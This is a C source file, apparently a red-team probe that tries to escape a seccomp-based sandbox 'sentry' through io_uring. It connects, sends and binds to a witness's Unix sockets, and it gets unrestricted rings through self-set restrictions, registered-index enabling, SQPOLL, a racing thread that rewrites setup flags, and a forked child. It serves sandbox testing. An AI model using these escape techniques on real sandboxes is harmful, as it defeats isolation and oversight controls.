/*
 * Route 9 of the red team: io_uring, whose operations never pass through seccomp, and so
 * never reach the sentry (issue 18).
 *
 *   ring WITNESS_DIR TOKEN ATTEMPTS
 *
 * Two threads, each with a ring of its own, ATTEMPTS times: IORING_OP_SOCKET then
 * IORING_OP_CONNECT to the witness's path and abstract listeners; IORING_OP_SENDMSG with a
 * msg_name, and IORING_OP_SEND with a destination address (addr2, since Linux 6.0), to its
 * path and abstract datagram sockets; IORING_OP_BIND of a stream socket to a new path in the
 * witness's directory, which a host process could then connect to past the sentry (a
 * success). A ring operation the kernel refuses falls back to the plain call where one is
 * needed to go on (a socket to connect with), so that each operation is tried on its own.
 *
 * Each attempt's ring is another way to get an unrestricted one, in turn: a plain ring; one
 * the program makes disabled, restricts itself to allow every socket opcode, and enables;
 * one made disabled and enabled through its registered index
 * (IORING_REGISTER_USE_REGISTERED_RING, past a filter that would look at the opcode whole);
 * an SQPOLL ring; a ring made while two racer threads rewrite the params' flags (dropping
 * IORING_SETUP_R_DISABLED) and the words below the setup thread's stack pointer; a plain
 * ring used from a forked child. Prints, per thread, what io_uring_setup and each operation
 * answered, then "attempts N" and "successes N".
 */
#include "redteam.h"
#include "../probes/uring.h"

#include <pthread.h>
#include <sys/wait.h>

#define KINDS 6
static const char *const kind_names[KINDS] = {"connect", "sendmsg", "send", "bind", "socket", "setup"};

struct worker {
    int index;
    const char *dir, *token;
    long attempts;
    long tried, ok[KINDS];
    int last[KINDS];
};

static void note(struct worker *w, int kind, int res) {
    if (res >= 0) w->ok[kind]++;
    else w->last[kind] = res <= -10000 ? -(res + 10000) : -res;
}

/* A stream socket made through the ring (IORING_OP_SOCKET), or natively when that is refused. */
static int stream_socket(struct worker *w, struct uring *ring) {
    struct uring_sqe sqe;
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = OP_SOCKET;
    sqe.fd = AF_UNIX;
    sqe.off = SOCK_STREAM;
    int fd = uring_run(ring, &sqe);
    note(w, 4, fd);
    return fd >= 0 ? fd : socket(AF_UNIX, SOCK_STREAM, 0);
}

static void attempt(struct worker *w, struct uring *ring, int datagram) {
    struct rt_addr stream[2] = {rt_witness_path(w->dir, 's'), rt_witness_abstract_short(w->token, 's')};
    struct rt_addr dgram[2] = {rt_witness_path(w->dir, 'd'), rt_witness_abstract_short(w->token, 'd')};
    struct uring_sqe sqe;
    char byte = 'r';
    for (int t = 0; t < 2; t++) {
        int fd = stream_socket(w, ring);
        memset(&sqe, 0, sizeof sqe);
        sqe.opcode = OP_CONNECT;
        sqe.fd = fd;
        sqe.addr = (uint64_t)(uintptr_t)&stream[t].sun;
        sqe.off = stream[t].length;
        note(w, 0, uring_run(ring, &sqe));
        close(fd);

        struct iovec iov = {.iov_base = &byte, .iov_len = 1};
        struct msghdr header = {.msg_name = &dgram[t].sun, .msg_namelen = dgram[t].length, .msg_iov = &iov,
                                .msg_iovlen = 1};
        sqe = uring_sqe_of(OP_SENDMSG, datagram, &header, 1, 0);
        sqe.op_flags = MSG_DONTWAIT;
        note(w, 1, uring_run(ring, &sqe));

        /* The offset field is addr2: the destination. */
        sqe = uring_sqe_of(OP_SEND, datagram, &byte, 1, (uint64_t)(uintptr_t)&dgram[t].sun);
        sqe.op_flags = MSG_DONTWAIT;
        sqe.addr_len = (uint16_t)dgram[t].length;
        note(w, 2, uring_run(ring, &sqe));
        w->tried += 3;
    }
    char path[sizeof ((struct sockaddr_un *)0)->sun_path];
    snprintf(path, sizeof path, "%s/b%d-%ld", w->dir, w->index, w->tried);
    struct rt_addr name = rt_path(path);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = OP_BIND;
    sqe.fd = fd;
    sqe.addr = (uint64_t)(uintptr_t)&name.sun;
    sqe.off = name.length;
    note(w, 3, uring_run(ring, &sqe));
    close(fd);
    unlink(path);
    w->tried++;
}

enum { PLAIN, OWN_RESTRICTIONS, REGISTERED_INDEX, SQPOLL, RACED, FORKED, WAYS };

/* Each worker's params for the raced setup, which the racers rewrite all the time. */
static struct uring_params raced_params[2];
static volatile uintptr_t raced_stack;
static volatile int racing = 1;

/* Rewrites the flags of the params being set up, and the words below the setup thread's stack. */
static void *racer(void *unused) {
    (void)unused;
    while (racing) {
        for (int i = 0; i < 2; i++) __atomic_store_n(&raced_params[i].flags, 0U, __ATOMIC_RELAXED);
        uintptr_t stack = raced_stack;
        if (stack != 0) {
            /* An io_uring_params copy below the red zone: its flags at any 8-byte offset. */
            for (uintptr_t at = stack - 8192; at + 16 < stack - 128; at += 8)
                __atomic_store_n((uint32_t *)(at + 8), 0U, __ATOMIC_RELAXED);
        }
    }
    return NULL;
}

/* The racers' stack: io_uring_setup is made with the stack pointer at its top, so that what
 * a sandbox would place below the stack pointer is where the racers write, and no frame of
 * this program's is. One per worker thread. */
static _Alignas(16) unsigned char raced_stacks[2][16384];

static long raced_setup(int slot, unsigned entries, struct uring_params *params) {
    uintptr_t top = (uintptr_t)(raced_stacks[slot] + sizeof raced_stacks[slot]);
    raced_stack = top;
    long result;
    __asm__ volatile("mov %%rsp, %%r12\n\t"
                     "mov %[top], %%rsp\n\t"
                     "syscall\n\t"
                     "mov %%r12, %%rsp"
                     : "=a"(result)
                     : "a"((long)URING_SETUP), "D"((long)entries), "S"(params), [top] "r"(top)
                     : "rcx", "r11", "r12", "memory");
    raced_stack = 0;
    if (result < 0) {
        errno = (int)-result;
        return -1;
    }
    return result;
}

/* A ring made the way `way` says, mapped, enabled: the descriptor, or -1 and errno. */
static int make_ring(struct uring *ring, int way, int slot) {
    unsigned flags = way == SQPOLL ? URING_SETUP_SQPOLL : 0;
    if (way == OWN_RESTRICTIONS || way == REGISTERED_INDEX) flags |= URING_SETUP_R_DISABLED;
    if (way != RACED) return uring_init(ring, 8, flags) < 0 ? -1 : ring->fd;
    struct uring_params *shared = &raced_params[slot];
    memset(ring, 0, sizeof *ring);
    memset(shared, 0, sizeof *shared);
    long fd = raced_setup(slot, 8, shared);
    if (fd < 0) return -1;
    ring->params = *shared;
    if (uring_map(ring, (int)fd) < 0) return -1;
    return (int)fd;
}

/* For a ring made disabled: its own restrictions (every socket opcode allowed), or none, then enabled. */
static void enable(struct worker *w, struct uring *ring, int way) {
    if (way == OWN_RESTRICTIONS) {
        struct uring_restriction list[64];
        memset(list, 0, sizeof list);
        int n = 0;
        for (int op = 0; op <= 62; op++, n++) {
            list[n].opcode = URING_RESTRICTION_SQE_OP;
            list[n].op = (uint8_t)op;
        }
        list[n].opcode = URING_RESTRICTION_SQE_FLAGS_ALLOWED;
        list[n++].op = 0xff;
        if (uring_register(ring->fd, URING_REGISTER_RESTRICTIONS, list, (unsigned)n) < 0) note(w, 5, -errno);
        if (uring_register(ring->fd, URING_REGISTER_ENABLE_RINGS, NULL, 0) < 0) note(w, 5, -errno);
    } else if (way == REGISTERED_INDEX) {
        /* IORING_REGISTER_RING_FDS at any free index (offset -1), which the kernel writes back. */
        struct { uint32_t offset, resv; uint64_t data; } update = {.offset = UINT32_MAX, .data = (uint64_t)ring->fd};
        if (uring_register(ring->fd, 20, &update, 1) < 0) {
            note(w, 5, -errno);
            return;
        }
        if (uring_register((int)update.offset, URING_REGISTER_ENABLE_RINGS | (1U << 31), NULL, 0) < 0) note(w, 5, -errno);
        update.data = 0;
        uring_register(ring->fd, 21 /* IORING_UNREGISTER_RING_FDS */, &update, 1);
    }
}

static void *work(void *argument) {
    struct worker *w = argument;
    int datagram = socket(AF_UNIX, SOCK_DGRAM, 0);
    for (long i = 0; i < w->attempts; i++) {
        int way = (int)((i + w->index) % WAYS);
        struct uring ring;
        if (make_ring(&ring, way, w->index) < 0) {
            note(w, 5, -errno);
            w->tried += 7;   /* the attempt's calls, none of which could be made */
            continue;
        }
        w->ok[5]++;
        enable(w, &ring, way);
        if (way == FORKED) {
            pid_t child = fork();
            if (child == 0) {
                attempt(w, &ring, datagram);
                _exit((int)(w->ok[3] > 0));
            }
            int status = 0;
            waitpid(child, &status, 0);
            w->tried += 7;
        } else {
            attempt(w, &ring, datagram);
        }
        uring_free(&ring);
    }
    close(datagram);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: ring WITNESS_DIR TOKEN ATTEMPTS\n");
        return 2;
    }
    pthread_t racers[2];
    for (int i = 0; i < 2; i++) pthread_create(&racers[i], NULL, racer, NULL);
    struct worker workers[2];
    pthread_t threads[2];
    for (int i = 0; i < 2; i++) {
        memset(&workers[i], 0, sizeof workers[i]);
        workers[i] = (struct worker){.index = i, .dir = argv[1], .token = argv[2], .attempts = atol(argv[3])};
        pthread_create(&threads[i], NULL, work, &workers[i]);
    }
    long attempts = 0, successes = 0;
    for (int i = 0; i < 2; i++) pthread_join(threads[i], NULL);
    racing = 0;
    for (int i = 0; i < 2; i++) pthread_join(racers[i], NULL);
    for (int i = 0; i < 2; i++) {
        struct worker *w = &workers[i];
        say("thread %d:", i);
        for (int k = KINDS - 1; k >= 0; k--) say(" %s ok %ld (%s)", kind_names[k], w->ok[k], errno_name(w->last[k]));
        say("\n");
        attempts += w->tried;
        successes += w->ok[3];
    }
    say("attempts %ld\n", attempts);
    say("successes %ld\n", successes);
    return 0;
}
